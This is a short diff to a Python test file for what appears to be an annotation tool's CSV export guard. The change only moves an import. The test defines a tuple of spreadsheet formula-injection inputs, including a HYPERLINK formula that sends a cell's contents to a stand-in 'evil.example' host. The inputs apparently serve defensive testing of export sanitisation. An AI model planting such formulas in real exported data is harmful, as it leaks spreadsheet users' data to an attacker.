@@ -16,9 +16,9 @@ from datasette.app import Datasette
 from reviewing import add_hostile_document, reviewer_accounts
 
 from annotator import store
-from annotator.store import sets
 from annotator.export import FORMULA_START
 from annotator.review import access, accounts, config, csv_guard
+from annotator.store import sets
 
 FORMULAS = ('=HYPERLINK("https://evil.example/?leak="&A1,"Click for sources")', "=2", "-2-3",
             "=alice", "@cue", "+1+1", "\t=1")
